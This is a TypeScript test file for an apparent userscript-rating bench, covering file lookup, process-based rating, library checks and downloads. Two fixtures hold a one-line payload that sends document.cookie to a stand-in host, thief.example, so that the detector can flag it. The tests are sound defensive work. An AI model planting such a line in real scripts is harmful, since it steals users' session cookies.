import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { type LoopbackServer, listenOnLoopback } from "@scriptorium/loopback-server/listen-on-loopback";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { downloadScripts } from "./download-scripts.ts";
import { listed } from "./example.test-support.ts";
import { findAny, findListed, pathOf, sha256Of } from "./find-files.ts";
import { countLibraries, downloadLibraries, readLibraries } from "./library-files.ts";
import { rateFiles } from "./rate-files.ts";

let folder: string;

beforeEach(() => {
	folder = mkdtempSync(join(tmpdir(), "scriptorium-public-"));
	mkdirSync(join(folder, "benign"));
});
afterEach(() => rmSync(folder, { recursive: true, force: true }));

const put = (file: string, content: string): string => {
	writeFileSync(join(folder, file), content);
	return join(folder, file);
};

describe("the files of the list", () => {
	it("are measured only with the listed content, and all others are named", () => {
		put("benign/one.js", "void 1;");
		put("benign/two.js", "void 'changed';");
		const list = [listed("one", "void 1;"), listed("two", "void 2;"), listed("three", "void 3;", "attack")];
		const { files, missing } = findListed(folder, list);
		expect(files.map(({ id }) => id)).toEqual(["one"]);
		expect(missing).toEqual(["benign/two: has other content than the list says", "attack/three: is not there"]);
	});

	it("of another folder are all below benign and attack", () => {
		mkdirSync(join(folder, "attack/deep"), { recursive: true });
		put("attack/deep/b.txt", "void 1;");
		put("benign/a.user.js", "void 1;");
		put("notes.txt", "void 1;");
		expect(findAny(folder).map(({ verdict, id }) => `${verdict} ${id}`)).toEqual([
			"benign a.user.js",
			"attack deep/b.txt",
		]);
		expect(() => findAny(join(folder, "benign"))).toThrow("no files");
	});
});

describe("rating in processes", () => {
	it("answers in the order of the files, with levels, findings and reasons", async () => {
		const paths = [
			put("leak.js", "new Image().src = 'https://thief.example/?' + document.cookie;"),
			put("quiet.js", "document.title = 'quiet';"),
			put("broken.js", "var = ;"),
		];
		const counts: number[] = [];
		const ratings = await rateFiles(paths, { onRated: (count) => counts.push(count) });
		expect(counts).toEqual([1, 2, 3]);
		expect(ratings.map(({ level }) => level)).toEqual(["red", "green", "unrated"]);
		expect(ratings[0]?.findings.map(({ type }) => type)).toContain("cookie-exfiltration");
		expect(ratings[2]?.reason).toBe("its code could not be read.");
	});

	it("counts a file whose check ends its process as not rated, and goes on", async () => {
		const script = put(
			"process.mjs",
			"process.on('message', ({ path }) => process.exit(path.includes('fatal') ? 3 : 4));",
		);
		const reasons = (await rateFiles(["fatal.js", "other.js", "fatal-too.js"], { script })).map(({ reason }) => reason);
		expect(reasons).toEqual([3, 4, 3].map((code) => `the check ended its process (${code}).`));
	});
});

describe("libraries", () => {
	const address = "https://b.example/lib.js";
	const SCRIPT = [
		"// ==UserScript==",
		"// @name a",
		"// @match https://a.example/*",
		`// @require ${address}`,
		"// ==/UserScript==",
		"run();",
	].join("\n");

	it("of the folder are rated with the script, others are not checked", async () => {
		const script = put("one.user.js", SCRIPT);
		const [without] = await rateFiles([script], { libraries: folder });
		expect(without?.findings.map(({ type }) => type)).toContain("unchecked-library");
		expect(countLibraries(folder, [{ id: "one", verdict: "benign", path: script }])).toEqual({ wanted: 1, present: 0 });

		mkdirSync(join(folder, "libraries"));
		const leak = "function run() { new Image().src = 'https://thief.example/?' + document.cookie; }";
		put(`libraries/${sha256Of(Buffer.from(address))}.js`, leak);
		expect(countLibraries(folder, [{ id: "one", verdict: "benign", path: script }])).toEqual({ wanted: 1, present: 1 });
		const [together] = await rateFiles([script], { libraries: folder });
		expect(together?.level).toBe("red");
		expect(together?.findings.map(({ type }) => type)).not.toContain("unchecked-library");
		const [first] = await rateFiles([script]);
		expect(first?.findings.map(({ type }) => type)).toContain("unchecked-library");
	});

	it("with another checksum than the address names are not used", () => {
		mkdirSync(join(folder, "libraries"));
		const pinned = `${address}#sha256=${"a".repeat(64)}`;
		put(`libraries/${sha256Of(Buffer.from(pinned))}.js`, "run();");
		const [library] = readLibraries(folder, SCRIPT.replace(address, pinned));
		expect(library).toEqual({ address: pinned, problem: "its file is not in the folder of the bench" });
		const path = put("pinned.user.js", SCRIPT.replace(address, pinned));
		expect(countLibraries(folder, [{ id: "pinned", verdict: "benign", path }])).toEqual({ wanted: 1, present: 0 });
	});
});

describe("downloading", () => {
	let server: LoopbackServer;
	let base: string;
	const asked: string[] = [];
	const contents = new Map([
		["one", "void 1;"],
		["two", "void 'of another commit';"],
	]);

	beforeEach(async () => {
		asked.length = 0;
		const started = createServer((request, answer) => {
			asked.push(request.url ?? "");
			const name = /(\w+)%231\.user\.js$/.exec(request.url ?? "")?.[1] ?? "";
			const content = contents.get(name);
			if (name === "moved") answer.writeHead(302, { location: "/one%231.user.js" }).end();
			else if (content === undefined) answer.writeHead(404).end("Not found");
			else answer.end(content);
		});
		server = await listenOnLoopback(started);
		base = server.origin;
	});
	afterEach(() => server.close());

	it("writes only files with the listed content and names all others", async () => {
		const list = ["one", "two", "three", "moved"].map((id) => listed(id, id === "one" ? "void 1;" : "void 2;"));
		const { written, problems } = await downloadScripts(folder, list, base);
		expect(written).toBe(1);
		expect(readFileSync(join(folder, "benign/one.js"), "utf8")).toBe("void 1;");
		expect(problems.map((problem) => problem.replace(base, ""))).toEqual([
			expect.stringMatching(/^two: .*other content/),
			expect.stringMatching(/^three: .*answered 404$/),
			expect.stringMatching(/^moved: .*could not be read/),
		]);
		expect(list.map((script) => existsSync(pathOf(folder, script)))).toEqual([true, false, false, false]);
		expect(asked).toContain(
			"/somebody/scripts/0123456789abcdef0123456789abcdef01234567/folder%20with%20spaces/one%231.user.js",
		);
	});

	it("writes the libraries that the folder lacks, and leaves out those that cannot be had", async () => {
		const requireLine = (name: string) => `// @require ${base}/${name}%231.user.js\n`;
		const block = `// ==UserScript==\n// @name a\n${requireLine("one")}${requireLine("three")}// ==/UserScript==\nvoid 1;`;
		const files = [{ id: "a", verdict: "benign", path: put("a.user.js", block) }] as const;
		expect(await downloadLibraries(folder, files)).toBe(1);
		expect(countLibraries(folder, files)).toEqual({ wanted: 2, present: 1 });
		expect(readLibraries(folder, block).map((library) => library.problem ?? library.text)).toEqual([
			"void 1;",
			"its file is not in the folder of the bench",
		]);
	});

	it("asks for nothing that is there", async () => {
		put("benign/one.js", "void 1;");
		expect(await downloadScripts(folder, [listed("one", "void 1;")], base)).toEqual({ written: 0, problems: [] });
		expect(asked).toEqual([]);
	});
});
